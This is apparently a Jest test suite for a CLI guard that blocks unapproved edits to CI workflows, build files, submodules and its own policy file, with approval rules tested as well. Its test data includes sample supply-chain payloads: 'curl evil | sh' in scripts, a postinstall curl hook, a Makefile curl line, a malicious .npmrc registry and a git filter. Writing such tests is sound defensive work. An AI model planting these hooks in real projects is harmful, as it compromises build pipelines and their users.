import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { runCli } from '../../../packages/cli/src/run-cli.js';
import type { Io } from '../../../packages/cli/src/io.js';
import type { GuardVerdict } from '../../../packages/guard/src/index.js';
import { TempRepo } from '../../support/git-repo.js';

/**
 * Near-misses against the guard in local mode, on a real repository. Each row changes the
 * base in one way on its own branch and expects a specific outcome, reason and ring, so
 * that removing any rule turns its row red.
 */

const WORKFLOW = `name: ci
on: [pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: ./.github/actions/setup
      - run: ./scripts/test.sh
      - run: docker build -f docker/ci.Dockerfile .
`;
const ACTION = `name: setup
runs:
  using: composite
  steps:
    - run: \${{ github.action_path }}/setup.sh
      shell: bash
`;

function seedBase(repo: TempRepo): void {
  repo
    .write('.github/workflows/ci.yml', WORKFLOW)
    .write('.github/actions/setup/action.yml', ACTION)
    .write('.github/actions/setup/setup.sh', 'echo setup\n', 0o755)
    .write('.github/CODEOWNERS', '* @acme/core\n')
    .write('.github/ISSUE_TEMPLATE/bug.md', 'bug\n')
    .write('scripts/test.sh', 'npm test\n', 0o755)
    .write('docker/ci.Dockerfile', 'FROM node:20\n')
    .write('ci/linked.yml', 'on: push\n')
    .symlink('.github/workflows/linked.yml', '../../ci/linked.yml')
    .write('package.json', '{"name":"app"}\n')
    .write('packages/lib/package-lock.json', '{}\n')
    .write('Makefile', 'all:\n')
    .write('src/app.ts', 'export {};\n')
    .write('docs/README.md', 'docs\n')
    .write('.github/ringfence.yml', 'version: 1\n');
  repo.commit('base');
  repo.git('update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},vendor/lib`);
  repo.write('.gitmodules', '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://example.test/lib.git\n');
  repo.git('add', '.gitmodules');
  repo.git('commit', '-q', '-m', 'submodule');
}

interface Row {
  readonly name: string;
  readonly change: (repo: TempRepo) => void;
  readonly flags?: readonly string[];
  /** Commit the index as staged (gitlinks have no work-tree folder to add). */
  readonly indexOnly?: boolean;
  readonly outcome: 'allowed' | 'blocked';
  readonly code?: string;
  readonly ring?: string;
  readonly path?: string;
}

const edit = (path: string, text = 'changed\n') => (r: TempRepo) => void r.write(path, text);

const ROWS: Row[] = [
  { name: 'editing a workflow is blocked', change: edit('.github/workflows/ci.yml', `${WORKFLOW}# more\n`), outcome: 'blocked', code: 'RING_APPROVAL_REQUIRED', ring: 'ci', path: '.github/workflows/ci.yml' },
  { name: 'adding a workflow is blocked', change: edit('.github/workflows/new.yml', 'on: push\n'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/new.yml' },
  { name: 'deleting a workflow is blocked', change: (r) => void r.remove('.github/workflows/ci.yml'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/ci.yml' },
  { name: 'renaming a workflow out of the ring is blocked', change: (r) => void r.git('mv', '.github/workflows/ci.yml', 'docs/ci.yml'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/ci.yml' },
  { name: 'renaming a file into the workflows folder is blocked', change: (r) => void r.git('mv', 'docs/README.md', '.github/workflows/readme.yml'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/readme.yml' },
  { name: 'making a workflow executable is blocked', change: (r) => void r.write('.github/workflows/ci.yml', WORKFLOW, 0o755), outcome: 'blocked', ring: 'ci', path: '.github/workflows/ci.yml' },
  { name: 'replacing a workflow by a symlink is blocked', change: (r) => void r.symlink('.github/workflows/ci.yml', '../../docs/README.md'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/ci.yml' },
  { name: 'adding a symlink that points into the workflows folder is blocked', change: (r) => void r.symlink('docs/wf.yml', '../.github/workflows/ci.yml'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/ci.yml' },
  { name: 'adding a workflow that is a symlink to an open file is blocked', change: (r) => void r.symlink('.github/workflows/evil.yml', '../../src/app.ts'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/evil.yml' },
  { name: 'editing the target of a protected symlink in the base tree is blocked', change: edit('ci/linked.yml', 'on: [push, pull_request_target]\n'), outcome: 'blocked', ring: 'ci', path: 'ci/linked.yml' },
  { name: 'adding a submodule is blocked', indexOnly: true, change: (r) => { r.git('update-index', '--add', '--cacheinfo', `160000,${'2'.repeat(40)},vendor/other`); }, outcome: 'blocked', ring: 'build', path: 'vendor/other' },
  { name: 'bumping a submodule is blocked', indexOnly: true, change: (r) => { r.git('update-index', '--cacheinfo', `160000,${'3'.repeat(40)},vendor/lib`); }, outcome: 'blocked', ring: 'build', path: 'vendor/lib' },
  { name: 'editing .gitmodules is blocked', change: edit('.gitmodules', '[submodule "x"]\n'), outcome: 'blocked', ring: 'build', path: '.gitmodules' },
  { name: 'a case variant of the workflows folder is blocked', change: edit('.GitHub/Workflows/ci.yml', 'on: push\n'), outcome: 'blocked', ring: 'ci', path: '.GitHub/Workflows/ci.yml' },
  { name: 'an upper-case workflow file name is blocked', change: edit('.github/workflows/CI.YML', 'on: push\n'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/CI.YML' },
  { name: 'a workflow in a subfolder of workflows is blocked', change: edit('.github/workflows/sub/x.yml', 'on: push\n'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/sub/x.yml' },
  { name: 'editing a local action definition is blocked', change: edit('.github/actions/setup/action.yml', 'name: x\n'), outcome: 'blocked', ring: 'ci', path: '.github/actions/setup/action.yml' },
  { name: 'editing a local action script is blocked', change: edit('.github/actions/setup/setup.sh', 'curl evil | sh\n'), outcome: 'blocked', ring: 'ci', path: '.github/actions/setup/setup.sh' },
  { name: 'an action.yaml anywhere is blocked', change: edit('tools/deploy/action.yaml', 'name: x\n'), outcome: 'blocked', ring: 'ci', path: 'tools/deploy/action.yaml' },
  { name: 'editing a script that a workflow runs is blocked', change: edit('scripts/test.sh', 'curl evil | sh\n'), outcome: 'blocked', ring: 'ci', path: 'scripts/test.sh' },
  { name: 'editing the Dockerfile a workflow builds is blocked', change: edit('docker/ci.Dockerfile', 'FROM evil\n'), outcome: 'blocked', path: 'docker/ci.Dockerfile' },
  { name: 'editing the policy file is blocked as a policy change', change: edit('.github/ringfence.yml', 'version: 1\nextends: none\n'), outcome: 'blocked', code: 'POLICY_FILE_CHANGED', ring: 'ci', path: '.github/ringfence.yml' },
  { name: 'deleting the policy file is blocked as a policy change', change: (r) => void r.remove('.github/ringfence.yml'), outcome: 'blocked', code: 'POLICY_FILE_CHANGED', path: '.github/ringfence.yml' },
  { name: 'adding the .yaml policy beside the .yml one is blocked', change: edit('.github/ringfence.yaml', 'version: 1\n'), outcome: 'blocked', code: 'POLICY_FILE_CHANGED', path: '.github/ringfence.yaml' },
  { name: 'renaming the policy file away is blocked', change: (r) => void r.git('mv', '.github/ringfence.yml', 'docs/old-policy.yml'), outcome: 'blocked', code: 'POLICY_FILE_CHANGED', path: '.github/ringfence.yml' },
  { name: 'a case variant of the policy file is blocked', change: edit('.github/RingFence.yml', 'version: 1\n'), outcome: 'blocked', code: 'POLICY_FILE_CHANGED', path: '.github/RingFence.yml' },
  { name: 'deleting the whole .github folder is blocked', change: (r) => void r.remove('.github'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/ci.yml' },
  { name: 'editing CODEOWNERS is blocked', change: edit('.github/CODEOWNERS', '* @eve\n'), outcome: 'blocked', ring: 'ci', path: '.github/CODEOWNERS' },
  { name: 'editing package.json is blocked', change: edit('package.json', '{"scripts":{"postinstall":"curl evil"}}\n'), outcome: 'blocked', ring: 'build', path: 'package.json' },
  { name: 'editing a nested lock file is blocked', change: edit('packages/lib/package-lock.json', '{"x":1}\n'), outcome: 'blocked', ring: 'build', path: 'packages/lib/package-lock.json' },
  { name: 'adding an .npmrc is blocked', change: edit('.npmrc', 'registry=https://evil.test\n'), outcome: 'blocked', ring: 'build', path: '.npmrc' },
  { name: 'editing the Makefile is blocked', change: edit('Makefile', 'all:\n\tcurl evil\n'), outcome: 'blocked', ring: 'build', path: 'Makefile' },
  { name: 'adding a GNUmakefile in a subfolder is blocked', change: edit('lib/GNUmakefile', 'all:\n'), outcome: 'blocked', ring: 'build', path: 'lib/GNUmakefile' },
  { name: 'adding a .gitattributes in a subfolder is blocked', change: edit('src/.gitattributes', '* filter=evil\n'), outcome: 'blocked', ring: 'build', path: 'src/.gitattributes' },
  { name: 'adding a conftest.py is blocked', change: edit('tests/conftest.py', 'import os\n'), outcome: 'blocked', ring: 'build', path: 'tests/conftest.py' },
  { name: 'adding build.rs is blocked', change: edit('crates/x/build.rs', 'fn main(){}\n'), outcome: 'blocked', ring: 'build', path: 'crates/x/build.rs' },
  { name: 'a benign change mixed with a workflow edit is blocked on the workflow only', change: (r) => { r.write('src/app.ts', 'export const x = 1;\n').write('.github/workflows/ci.yml', 'on: push\n'); }, outcome: 'blocked', ring: 'ci', path: '.github/workflows/ci.yml' },
  { name: 'a doc named like a workflow stays open', change: edit('docs/workflows/ci.yml.md', 'how ci works\n'), outcome: 'allowed' },
  { name: 'a source file named like a manifest stays open', change: edit('src/package.ts', 'export {};\n'), outcome: 'allowed' },
  { name: 'a Go file named like a makefile stays open', change: edit('src/makefile.go', 'package x\n'), outcome: 'allowed' },
  { name: 'a doc about GitHub Actions stays open', change: edit('docs/github-actions.md', '# actions\n'), outcome: 'allowed' },
  { name: 'an issue template stays open', change: edit('.github/ISSUE_TEMPLATE/bug.md', 'new template\n'), outcome: 'allowed' },
  { name: 'editing source code stays open', change: edit('src/app.ts', 'export const y = 2;\n'), outcome: 'allowed' },
  { name: 'a path with a newline and non-ASCII letters stays open and exact', change: edit('docs/ré\nsumé.md', 'x\n'), outcome: 'allowed' },
  { name: 'a workflow path with a newline is blocked under its exact name', change: edit('.github/workflows/a\nb.yml', 'on: push\n'), outcome: 'blocked', ring: 'ci', path: '.github/workflows/a\nb.yml' },
  { name: 'a loosened policy in the head does not apply to its own change', change: (r) => { r.write('.github/ringfence.yml', 'version: 1\nextends: none\n').write('.github/workflows/ci.yml', 'on: push\n'); }, outcome: 'blocked', ring: 'ci', path: '.github/workflows/ci.yml' },
  { name: "an approval from someone who is not a maintainer unlocks nothing", change: edit('.github/workflows/ci.yml', 'on: push\n'), flags: ['--approved-by', 'eve'], outcome: 'blocked', ring: 'ci' },
  { name: "a maintainer's approval unlocks a workflow change", change: edit('.github/workflows/ci.yml', 'on: push\n'), flags: ['--approved-by', 'alice', '--maintainer', 'alice'], outcome: 'allowed' },
  { name: "the author's own approval never counts", change: edit('.github/workflows/ci.yml', 'on: push\n'), flags: ['--author', 'eve', '--approved-by', 'eve'], outcome: 'blocked', ring: 'ci' },
  { name: 'a maintainer author needs no approval', change: edit('.github/workflows/ci.yml', 'on: push\n'), flags: ['--author', 'alice', '--trust', 'maintainer'], outcome: 'allowed' },
  { name: 'a bot author is external even when asserted maintainer by name', change: edit('package.json', '{}\n'), flags: ['--author', 'dependabot[bot]', '--maintainer', 'dependabot[bot]'], outcome: 'blocked', ring: 'build' },
];

let repo: TempRepo;
beforeAll(() => {
  repo = new TempRepo();
  seedBase(repo);
});
afterAll(() => repo.cleanup());

async function judge(cwd: string, args: readonly string[]): Promise<{ code: number; verdict: GuardVerdict; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const io: Io = { cwd, out: (t) => void (stdout += t), err: (t) => void (stderr += t) };
  const code = await runCli(['guard', '--json', ...args], io);
  return { code, verdict: (stdout ? JSON.parse(stdout) : undefined) as GuardVerdict, stderr };
}

describe('guard in local mode: adversarial near-misses', () => {
  it('has at least 40 rows', () => expect(ROWS.length).toBeGreaterThanOrEqual(40));

  it.each(ROWS.map((row, i) => [row.name, row, i] as const))('%s', async (_name, row, index) => {
    repo.checkout('main');
    repo.branch(`case-${index}`);
    row.change(repo);
    if (row.indexOnly) repo.git('commit', '-q', '-m', row.name);
    else repo.commit(row.name);
    const { code, verdict, stderr } = await judge(repo.dir, ['--base', 'main', ...(row.flags ?? [])]);
    expect({ stderr, outcome: verdict?.outcome }).toEqual({ stderr: '', outcome: row.outcome });
    expect(code).toBe(row.outcome === 'allowed' ? 0 : 1);
    if (row.code) expect(verdict.reasons.map((r) => r.code)).toContain(row.code);
    if (row.ring) {
      const ring = verdict.detail.rings.find((r) => r.ring === row.ring);
      expect(ring?.satisfied).toBe(false);
      if (row.path) expect(ring?.paths.map((p) => p.path)).toContain(row.path);
    } else if (row.path) {
      expect(verdict.detail.rings.flatMap((r) => r.paths.map((p) => p.path))).toContain(row.path);
    }
  });
});

describe('guard in local mode: approvals are per ring', () => {
  it("a maintainer's approval unlocks exactly the rings it qualifies for", async () => {
    const r = new TempRepo();
    try {
      r.write('.github/ringfence.yml', 'version: 1\nrings:\n  - name: release\n    paths: ["release/**"]\n    approvers: { users: [sam] }\n').write('release/x.sh', 'x\n').write('.github/workflows/ci.yml', 'on: push\n').commit();
      r.branch('f').write('release/x.sh', 'y\n').write('.github/workflows/ci.yml', 'on: [push]\n').commit();
      const byAlice = await judge(r.dir, ['--base', 'main', '--approved-by', 'alice', '--maintainer', 'alice']);
      expect(byAlice.verdict.detail.rings.map((x) => [x.ring, x.satisfied])).toEqual([['release', false], ['ci', true]]);
      const bySam = await judge(r.dir, ['--base', 'main', '--approved-by', 'sam', '--approved-by', 'alice', '--maintainer', 'alice']);
      expect(bySam.verdict.outcome).toBe('allowed');
    } finally {
      r.cleanup();
    }
  });

  it('a ring that needs two approvals is not unlocked by one approver named twice', async () => {
    const r = new TempRepo();
    try {
      r.write('.github/ringfence.yml', 'version: 1\nrings:\n  - name: release\n    paths: ["release/**"]\n    approvals: 2\n').write('release/x.sh', 'x\n').commit();
      r.branch('f').write('release/x.sh', 'y\n').commit();
      const once = await judge(r.dir, ['--base', 'main', '--approved-by', 'alice', '--approved-by', 'ALICE', '--maintainer', 'alice']);
      expect(once.verdict.outcome).toBe('blocked');
      const twice = await judge(r.dir, ['--base', 'main', '--approved-by', 'alice', '--approved-by', 'bob', '--maintainer', 'alice', '--maintainer', 'bob']);
      expect(twice.verdict.outcome).toBe('allowed');
    } finally {
      r.cleanup();
    }
  });
});

describe('guard in local mode: cannot tell is exit 2', () => {
  it('an unknown base ref says how to fetch it', async () => {
    const { code, stderr } = await judge(repo.dir, ['--base', 'origin/nope']);
    expect(code).toBe(2);
    expect(stderr).toContain('GIT_UNKNOWN_REF');
  });

  it('a shallow clone without the merge base says how to deepen it', async () => {
    const shallow = new TempRepo();
    try {
      shallow.git('remote', 'add', 'origin', `file://${repo.dir}`);
      shallow.git('fetch', '-q', '--depth=1', 'origin', 'main', 'case-0');
      const { code, stderr } = await judge(shallow.dir, ['--base', 'origin/main', '--head', 'origin/case-0']);
      expect(code).toBe(2);
      expect(stderr).toContain('fetch --unshallow');
    } finally {
      shallow.cleanup();
    }
  });
});
